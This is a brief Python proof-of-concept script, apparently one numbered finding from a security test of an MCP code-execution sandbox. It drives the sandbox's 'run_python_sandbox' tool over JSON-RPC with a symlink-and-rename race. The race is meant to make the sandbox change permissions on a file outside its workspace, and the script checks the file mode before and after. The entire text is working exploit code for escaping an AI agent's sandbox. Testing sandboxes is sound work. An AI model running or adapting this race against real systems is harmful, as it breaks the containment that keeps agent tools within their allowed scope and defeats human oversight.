# F10 in the docker scheme: serve as a user in the docker group, container user 65534
import sys, json, subprocess, os, base64
U="/tmp/atk33x/u1000"
os.chmod(U+"/outside/f", 0o644); print("before:", oct(os.stat(U+"/outside/f").st_mode))
code = r'''
import os, time
os.chdir("/workspace")
os.mkdir("d"); os.symlink("/tmp/atk33x/u1000/outside/f", "l"); os.chmod("d", 0)
t=time.time(); n=0
while time.time()-t < 20:
    if n % 64 == 0: os.chmod("d", 0)
    os.rename("d","x"); os.rename("l","d"); os.rename("d","l"); os.rename("x","d")
    n+=1
print("cycles", n)
'''
p=subprocess.Popen(["setpriv","--reuid=1000","--regid=1000","--groups=105","/tmp/atk33/mcpsandbox","serve","--policy",U+"/home/dpol.toml"],stdin=subprocess.PIPE,stdout=subprocess.PIPE,stderr=open("/tmp/atk33x/nonroot-d.log","wb"),env={"HOME":U+"/home","PATH":"/usr/bin:/bin"})
def send(o): p.stdin.write((json.dumps(o)+"\n").encode()); p.stdin.flush()
send({"jsonrpc":"2.0","id":1,"method":"initialize","params":{"protocolVersion":"2025-06-18","capabilities":{},"clientInfo":{"name":"a","version":"1"}}}); print(p.stdout.readline()[:80])
send({"jsonrpc":"2.0","method":"notifications/initialized"})
send({"jsonrpc":"2.0","id":2,"method":"tools/call","params":{"name":"run_python_sandbox","arguments":{"code":code}}})
r=json.loads(p.stdout.readline()); print(json.dumps(r.get("result",{}).get("structuredContent", r))[:600])
p.stdin.close(); p.wait(timeout=60)
print("after:", oct(os.stat(U+"/outside/f").st_mode))
